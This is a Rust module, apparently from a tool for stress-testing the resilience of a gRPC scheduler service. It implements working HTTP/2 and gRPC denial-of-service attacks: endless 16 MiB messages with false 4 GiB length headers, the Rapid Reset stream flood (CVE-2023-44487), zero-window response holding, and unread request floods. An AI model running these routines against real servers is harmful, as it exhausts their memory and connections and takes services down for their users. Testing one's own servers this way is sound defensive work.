//! What can be done by HTTP/2 and gRPC.

use std::net::SocketAddr;
use std::pin::Pin;
use std::time::Duration;

use bytes::Bytes;
use futures_util::future::{join_all, poll_fn};
use h2::client::{SendRequest, handshake};
use h2::{Reason, SendStream};
use headroom_api::si::v1;
use headroom_api::si::v1::scheduler_client::SchedulerClient;
use tokio::time::{sleep, timeout};
use tonic::codegen::http::Request;
use tonic::transport::Endpoint;

use crate::attack::Counts;
use crate::client::{application, ask, registration};
use crate::connections::connect;

/// What a server takes of a message at most, in bytes.
const MESSAGE_MAX: usize = 16 << 20;
const PIECE: usize = 64 << 10;

/// A connection, and how it ends.
async fn client(to: SocketAddr, number: usize, counts: &Counts) -> Option<SendRequest<Bytes>> {
    let stream = connect(to, number).await.ok()?;
    let (requests, connection) = handshake(stream).await.ok()?;
    let counts = counts.clone();
    tokio::spawn(async move {
        if connection.await.is_err() {
            counts.count("connections ended by the server");
        }
    });
    requests.ready().await.ok()
}

fn call(method: &str) -> Request<()> {
    let uri = format!("http://localhost/si.v1.Scheduler/{method}");
    let request =
        Request::post(uri).header("content-type", "application/grpc").header("te", "trailers");
    request.body(()).expect("it is a good request")
}

/// Send bytes as the server takes them.
async fn send(stream: &mut SendStream<Bytes>, bytes: Bytes, end: bool) -> Result<(), h2::Error> {
    let mut left = bytes;
    while !left.is_empty() {
        stream.reserve_capacity(left.len().min(PIECE));
        let room = poll_fn(|cx| stream.poll_capacity(cx)).await.unwrap_or(Ok(0))?;
        if room == 0 {
            return Err(Reason::CANCEL.into());
        }
        let piece = left.split_to(room.min(left.len()));
        stream.send_data(piece, end && left.is_empty())?;
    }
    Ok(())
}

/// The frame of a message of so many bytes.
fn frame(bytes: usize) -> Bytes {
    let length = u32::try_from(bytes).expect("it is small").to_be_bytes();
    Bytes::from([&[0], &length[..]].concat())
}

/// What became of a call: its status of gRPC, or how it broke off.
async fn outcome(answer: h2::client::ResponseFuture) -> String {
    let Ok(response) = answer.await else { return "calls broken off".to_owned() };
    let status = |headers: &tonic::codegen::http::HeaderMap| {
        let status = headers.get("grpc-status")?.to_str().ok()?;
        Some(format!("calls with status {status}"))
    };
    if let Some(status) = status(response.headers()) {
        return status;
    }
    let mut body = response.into_body();
    while let Some(Ok(_)) = body.data().await {}
    let trailers = body.trailers().await.ok().flatten();
    trailers.as_ref().and_then(status).unwrap_or_else(|| "calls broken off".to_owned())
}

/// 4 connections, each with 100 messages of 16 MiB that never end; and some that say that they have
/// 4 GiB.
pub(crate) fn huge_messages(
    to: SocketAddr,
    counts: Counts,
) -> Pin<Box<dyn Future<Output = ()> + Send>> {
    const CONNECTIONS: usize = 4;
    const STREAMS: usize = 100;
    let stream = async |requests: SendRequest<Bytes>, number: usize, counts: &Counts| {
        let Ok(mut requests) = requests.ready().await else { return };
        let Ok((answer, mut stream)) = requests.send_request(call("UpdateNode"), false) else {
            return;
        };
        counts.count("calls");
        let begun = if number.is_multiple_of(10) {
            frame(u32::MAX as usize)
        } else {
            frame(MESSAGE_MAX - 1)
        };
        let sending = async {
            send(&mut stream, begun, false).await?;
            let piece = Bytes::from(vec![0; PIECE]);
            for _ in 0..MESSAGE_MAX / PIECE - 1 {
                send(&mut stream, piece.clone(), false).await?;
            }
            std::future::pending::<Result<(), h2::Error>>().await
        };
        tokio::select! {
            outcome = outcome(answer) => counts.count(&outcome),
            _ = sending => counts.count("calls broken off while they were sent"),
        }
    };
    Box::pin(async move {
        let connection = async |number: usize| loop {
            let Some(requests) = client(to, number, &counts).await else {
                sleep(Duration::from_millis(100)).await;
                continue;
            };
            join_all((0..STREAMS).map(|one| stream(requests.clone(), one, &counts))).await;
            sleep(Duration::from_millis(100)).await;
        };
        join_all((0..CONNECTIONS).map(connection)).await;
    })
}

/// Messages of 16 MiB with 8,000,000 asks of which nothing is said, from 4 clients.
pub(crate) fn empty_asks(
    to: SocketAddr,
    counts: Counts,
) -> Pin<Box<dyn Future<Output = ()> + Send>> {
    Box::pin(async move {
        // Field 4, of no bytes: `proto/si/v1/si.proto`, AllocationRequest.allocations.
        let message = Bytes::from([0x22, 0].repeat((MESSAGE_MAX - 2) / 2));
        let one = async |number: usize| loop {
            let called = async {
                let requests = client(to, number, &counts).await?;
                let mut requests = requests.ready().await.ok()?;
                let (answer, mut stream) =
                    requests.send_request(call("UpdateAllocation"), false).ok()?;
                counts.count("calls");
                let sent = async {
                    send(&mut stream, frame(message.len()), false).await?;
                    send(&mut stream, message.clone(), true).await
                };
                let (_, outcome) = tokio::join!(sent, outcome(answer));
                Some(outcome)
            };
            match called.await {
                Some(outcome) => counts.count(&outcome),
                None => counts.count("not taken in"),
            }
            sleep(Duration::from_millis(100)).await;
        };
        join_all((0..4).map(one)).await;
    })
}

/// Streams that are opened and reset, as fast as may be, on 8 connections (CVE-2023-44487).
pub(crate) fn resets(to: SocketAddr, counts: Counts) -> Pin<Box<dyn Future<Output = ()> + Send>> {
    Box::pin(async move {
        let one = async |number: usize| loop {
            let Some(mut requests) = client(to, number, &counts).await else {
                sleep(Duration::from_millis(10)).await;
                continue;
            };
            for count in 1_u64.. {
                let Ok(ready) = requests.ready().await else { break };
                requests = ready;
                let Ok((_, mut stream)) = requests.send_request(call("UpdateNode"), false) else {
                    break;
                };
                stream.send_reset(Reason::CANCEL);
                counts.count("streams reset");
                if count % 100 == 0 {
                    tokio::task::yield_now().await;
                }
            }
        };
        join_all((0..8).map(one)).await;
    })
}

/// Large answers that nobody lets come: windows of zero on 16 connections with 90 streams each.
pub(crate) fn closed_windows(
    to: SocketAddr,
    counts: Counts,
) -> Pin<Box<dyn Future<Output = ()> + Send>> {
    const STREAMS: usize = 90;
    Box::pin(async move {
        let one = async |number: usize| loop {
            let Ok(stream) = connect(to, number).await else { break };
            let mut builder = h2::client::Builder::new();
            builder.initial_window_size(0).max_concurrent_streams(1_000);
            let Ok((mut requests, connection)) = builder.handshake::<_, Bytes>(stream).await else {
                continue;
            };
            let going = tokio::spawn(connection);
            let mut held = Vec::new();
            for _ in 0..STREAMS {
                let Ok(ready) = requests.ready().await else { break };
                requests = ready;
                let request = Request::get("http://localhost/headroom/v1/openapi.json");
                let request = request.body(()).expect("it is a good request");
                let Ok((answer, _)) = requests.send_request(request, true) else { break };
                match timeout(Duration::from_secs(5), answer).await {
                    Ok(Ok(answer)) => {
                        counts.count(answer.status().as_str());
                        held.push(answer.into_body());
                    }
                    Ok(Err(_)) => counts.count("broken off"),
                    Err(_) => counts.count("not answered within 5 s"),
                }
            }
            let _ = going.await;
            counts.count("connections ended by the server");
        };
        join_all((0..16).map(one)).await;
    })
}

/// A resource manager that sends 200,000 requests and reads no answer.
pub(crate) fn unread_rm(
    to: SocketAddr,
    counts: Counts,
) -> Pin<Box<dyn Future<Output = ()> + Send>> {
    const ASKS: usize = 200_000;
    Box::pin(async move {
        let Ok(channel) = Endpoint::from_shared(format!("http://{to}")) else { return };
        let Ok(channel) = channel.connect().await else { return };
        let mut client = SchedulerClient::new(channel);
        if client.register_resource_manager(registration()).await.is_err() {
            return counts.count("refused");
        }
        let of_application = tokio_stream::once(application("app"));
        let Ok(applications) = client.update_application(of_application).await else { return };
        sleep(Duration::from_millis(500)).await;
        let (to_asks, asks) = tokio::sync::mpsc::channel(64);
        let asks = tokio_stream::wrappers::ReceiverStream::new(asks);
        let Ok(answers) = client.update_allocation(asks).await else { return };
        for number in 0..ASKS {
            // No application has this one, so each is refused, and that is told.
            let request = v1::AllocationRequest {
                allocations: vec![ask("nobody", &format!("unread-{number}"))],
                rm_id: "rm".to_owned(),
                releases: None,
            };
            match timeout(Duration::from_secs(1), to_asks.send(request)).await {
                Ok(Ok(())) => counts.count("requests"),
                Ok(Err(_)) => return counts.count("streams ended by the server"),
                Err(_) => counts.count("waits of a second"),
            }
        }
        std::future::pending::<()>().await;
        drop((applications, answers));
    })
}
